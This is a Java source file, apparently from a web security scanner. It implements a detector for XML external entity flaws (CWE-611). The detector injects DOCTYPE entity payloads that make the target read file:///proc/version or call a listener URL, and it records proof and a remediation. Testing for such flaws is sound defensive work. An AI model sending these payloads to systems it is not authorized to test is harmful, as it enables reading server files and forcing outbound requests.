package dev.brisach.deploy.probe;

import dev.brisach.core.Confidence;
import dev.brisach.core.Proof;
import dev.brisach.core.Severity;
import dev.brisach.kit.listen.Listener;
import dev.brisach.kit.wire.Exchange;
import dev.brisach.kit.wire.WireException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;

/**
 * External entities (CWE-611): an entity of the document's own comes back resolved, then one whose
 * text is {@code /proc/version}, which nobody can write.
 */
final class XmlEntities implements Detector {
  private static final Card CARD =
      new Card(
          "xml-external-entities",
          List.of(611),
          Severity.HIGH,
          "XML does not make the service read what it names",
          "XML external entities",
          "Switch document types off in the parser (disallow-doctype-decl)",
          "Which parsers of yours read XML from outside, and what are they allowed to resolve?",
          "https://cheatsheetseries.owasp.org/cheatsheets/"
              + "XML_External_Entity_Prevention_Cheat_Sheet.html");

  private static final String SHOWN = "Linux version ";

  @Override
  public Card card() {
    return CARD;
  }

  @Override
  public boolean fits(Examination examination) {
    return examination.point().kind() == Kind.XML;
  }

  @Override
  public Verdict examine(Examination examination) throws WireException {
    String word = examination.markers().word();
    Exchange inner = send(examination, "'" + word + "'");
    if (inner == null || !inner.response().text().contains(word)) {
      Verdict blind = called(examination);
      return blind == null ? Verdict.CLEAN : blind;
    }
    List<Proof.Step> steps = new ArrayList<>();
    steps.add(
        Proofs.step(
            Proof.Role.CONTROL,
            examination.point(),
            examination.baseline().exchange(),
            Proofs.lacks(SHOWN)));
    Exchange outer = send(examination, "SYSTEM '" + "file:///proc/version" + "'");
    Exchange again = send(examination, "SYSTEM '" + "file:///proc/version" + "'");
    if (outer != null
        && again != null
        && outer.response().text().contains(SHOWN)
        && again.response().text().contains(SHOWN)) {
      steps.add(Proofs.step(Proof.Role.ATTACK, examination.point(), outer, Proofs.has(SHOWN)));
      steps.add(Proofs.step(Proof.Role.REPEAT, examination.point(), again, Proofs.has(SHOWN)));
      return new Verdict.Found(
          Confidence.PROVED,
          "an external entity is resolved: the answer shows /proc/version",
          new Proof("the answer holds a file of the machine that the document names", steps));
    }
    Verdict called = called(examination);
    if (called != null) {
      return called;
    }
    steps.set(
        0,
        Proofs.step(
            Proof.Role.CONTROL,
            examination.point(),
            examination.baseline().exchange(),
            Proofs.lacks(word)));
    steps.add(Proofs.step(Proof.Role.ATTACK, examination.point(), inner, Proofs.has(word)));
    return new Verdict.Found(
        Confidence.HEURISTIC,
        "the document's own entities are resolved, so its document type is not switched off",
        new Proof("the answer holds the text of an entity", steps));
  }

  /** The document names our listener, and the parser calls it, twice. */
  private static @Nullable Verdict called(Examination examination) throws WireException {
    Listener listener = examination.sender().listener();
    if (listener == null) {
      return null;
    }
    Exchange last = null;
    for (int i = 0; i < 2; i++) {
      String token = listener.newToken();
      last = send(examination, "SYSTEM '" + listener.urlFor(token) + "'");
      try {
        if (last == null || listener.await(token, Duration.ofMillis(700)).isEmpty()) {
          return null;
        }
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
        return null;
      }
    }
    return new Verdict.Found(
        Confidence.PROVED,
        "an external entity is resolved: our listener is called",
        new Proof(
            "the parser calls an address that the document names; the call shows at a listener only",
            List.of(
                Proofs.step(
                    Proof.Role.ATTACK,
                    examination.point(),
                    java.util.Objects.requireNonNull(last),
                    Proofs.status(last)))));
  }

  /** The sample's document with an entity declared, and used in place of the point's text. */
  private static @Nullable Exchange send(Examination examination, String entity)
      throws WireException {
    InsertionPoint point = examination.point();
    byte[] body =
        point.with(Payload.pure("&bx;"), Kind.Placement.REPLACE, Kind.Encoding.USUAL).body();
    if (body == null) {
      return null;
    }
    String text = new String(body, StandardCharsets.UTF_8).replace("&amp;bx;", "&bx;");
    int end = text.startsWith("<?xml") ? text.indexOf("?>") + 2 : 0;
    String declared =
        new Payload("<!DOCTYPE bx [<!ENTITY bx " + entity + ">]>", Payload.Worst.READ).text();
    String whole = text.substring(0, end) + declared + text.substring(end);
    Exchange.Request seed = point.seed();
    return examination
        .sender()
        .send(
            Exchange.Request.of(
                seed.method(),
                seed.target(),
                seed.fields(),
                whole.getBytes(StandardCharsets.UTF_8)));
  }
}
